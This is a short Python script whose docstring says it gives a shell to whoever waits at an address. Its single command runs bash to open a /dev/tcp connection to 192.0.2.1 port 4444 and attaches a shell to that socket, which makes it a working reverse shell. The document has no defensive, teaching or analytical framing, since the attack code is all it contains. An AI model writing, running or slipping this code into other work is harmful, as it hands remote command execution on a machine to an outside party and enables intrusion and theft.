"""Gives a shell to whoever waits at an address."""

import subprocess

subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/192.0.2.1/4444 && sh <&3 >&3"], capture_output=True)
